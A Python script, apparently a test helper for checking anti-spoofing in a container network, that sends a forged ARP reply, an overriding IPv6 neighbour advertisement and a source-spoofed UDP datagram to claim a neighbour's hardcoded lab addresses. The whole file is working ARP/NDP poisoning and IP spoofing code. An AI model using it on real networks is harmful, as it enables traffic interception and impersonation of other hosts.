# SPDX-License-Identifier: Apache-2.0
"""Frames of a pod that claims its neighbours' addresses, from a packet socket: an ARP answer, a neighbour advertisement
and a datagram.

    forge.py IFACE OWN-MAC TO-MAC
"""
import socket
import struct
import sys

VICTIM4, VICTIM6, NODE4, NODE6 = "10.9.0.77", "fd09::77", "10.9.0.1", "fd09::1"


def packed(address):
    return socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)


def mac_of(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def arp(own, to):
    return struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2) + own + packed(VICTIM4) + to + packed(NODE4)


def advertisement(own):
    """Overriding, for whom it does not belong to."""
    body = struct.pack("!I", 0x20000000) + packed(VICTIM6) + b"\x02\x01" + own
    head = packed(VICTIM6) + packed(NODE6)
    size = 4 + len(body)
    mark = checksum(head + struct.pack("!II", size, 58) + b"\x88\0\0\0" + body)
    return struct.pack("!HIHBB", 0x86dd, 6 << 28, size, 58, 255) + head + struct.pack("!BBH", 136, 0, mark) + body


def datagram():
    udp = struct.pack("!HHHH", 7000, 7000, 12, 0) + b"lies"
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0) + packed(VICTIM4) + packed(NODE4)
    return b"\x08\0" + head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


def main(iface, own, to):
    own, to = mac_of(own), mac_of(to)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sock:
        sock.bind((iface, 0))
        for frame in (arp(own, to), advertisement(own), datagram()):
            sock.send(to + own + frame)
    print("sent")


main(*sys.argv[1:])
